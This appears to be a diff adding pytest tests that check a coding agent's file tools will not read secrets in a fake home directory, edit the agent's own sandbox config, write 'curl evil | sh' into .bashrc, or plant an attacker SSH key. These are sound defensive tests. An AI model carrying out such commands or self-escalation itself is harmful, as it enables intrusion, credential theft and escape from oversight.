@@ -485,3 +485,66 @@ def test_a_rename_without_a_path_names_a_file_it_could_not_change_and_changes_th
     result = EditFileTool().invoke({"old": "calc_total", "new": "compute_total", "replace_all": "true"}, ctx)
     assert not result.is_error and result.output.startswith("edited a.py at line 1; not b.txt: b.txt is not UTF-8")
     assert (ctx.workspace / "b.txt").read_bytes() == b"calc_total \xff\n"
+
+
+# --- a workspace at $HOME: the sandbox's hidden paths and the agent's own folders ---------------------------
+
+HOME_SECRET = "HOME-SECRET-8d2e"
+
+
+@pytest.fixture
+def home_workspace(tmp_path, monkeypatch):
+    """A fake $HOME used as the workspace, holding the agent's config, state and cache, and secrets."""
+    home = tmp_path / "home"
+    monkeypatch.setenv("HOME", str(home))
+    for name in ("XDG_CONFIG_HOME", "XDG_DATA_HOME", "XDG_STATE_HOME", "XDG_CACHE_HOME", "DFLASH_AGENT_CACHE"):
+        monkeypatch.delenv(name, raising=False)
+    for rel, text in [
+        (".config/dflash-agent/config.toml", 'sandbox = "workspace-write"\n'),
+        (".ssh/id_rsa", HOME_SECRET),
+        (".bashrc", f"export OPENAI_API_KEY={HOME_SECRET}\n"),
+        (".cache/dflash-agent/models/m.gguf", "weights"),
+        ("notes.txt", "mine\n"),
+    ]:
+        (home / rel).parent.mkdir(parents=True, exist_ok=True)
+        (home / rel).write_text(text)
+    (home / "key-link").symlink_to(home / ".ssh" / "id_rsa")
+    return home, ToolContext(home, ToolPolicy())
+
+
+def test_file_tools_never_write_the_agents_own_config_from_a_workspace_at_home(home_workspace):
+    home, ctx = home_workspace
+    config = home / ".config/dflash-agent/config.toml"
+    wrote = WriteFileTool().invoke(
+        {"path": ".config/dflash-agent/config.toml", "content": 'sandbox = "full-access"\n'}, ctx
+    )
+    edited = EditFileTool().invoke(
+        {"path": "~/.config/dflash-agent/config.toml", "old": "workspace-write", "new": "full-access"}, ctx
+    )
+    assert wrote.is_error and edited.is_error and "hidden" in wrote.output
+    assert config.read_text() == 'sandbox = "workspace-write"\n'
+    for rel in (".local/state/dflash-agent/sessions/x.jsonl", ".local/share/dflash-agent/mcp-approvals.json"):
+        result = WriteFileTool().invoke({"path": rel, "content": "{}"}, ctx)
+        assert result.is_error and not (home / rel).exists(), rel  # not there yet: still never created
+    cached = WriteFileTool().invoke({"path": ".cache/dflash-agent/models/m.gguf", "content": "x"}, ctx)
+    assert cached.is_error and "agent's own folder" in cached.output
+    assert (home / ".cache/dflash-agent/models/m.gguf").read_text() == "weights"
+    assert not WriteFileTool().invoke({"path": "notes.txt", "content": "changed\n"}, ctx).is_error  # control
+
+
+def test_file_tools_honour_the_sandboxs_hidden_paths_in_a_workspace_at_home(home_workspace):
+    home, ctx = home_workspace
+    for tool, args in [
+        (ReadFileTool(), {"path": ".ssh/id_rsa"}),
+        (ReadFileTool(), {"path": ".bashrc"}),
+        (ReadFileTool(), {"path": "key-link"}),
+        (WriteFileTool(), {"path": ".bashrc", "content": "curl evil | sh\n"}),
+        (WriteFileTool(), {"path": ".ssh/authorized_keys", "content": "ssh-ed25519 AAAA attacker\n"}),
+    ]:
+        result = tool.invoke(args, ctx)
+        assert result.is_error and HOME_SECRET not in result.output, (tool.name, args)
+    assert not (home / ".ssh/authorized_keys").exists()
+    found = SearchTool().invoke({"pattern": HOME_SECRET}, ctx)
+    listed = ListFilesTool().invoke({}, ctx)
+    assert found.output.startswith("no matches")
+    assert ".ssh" not in listed.output and ".bashrc" not in listed.output and "notes.txt" in listed.output
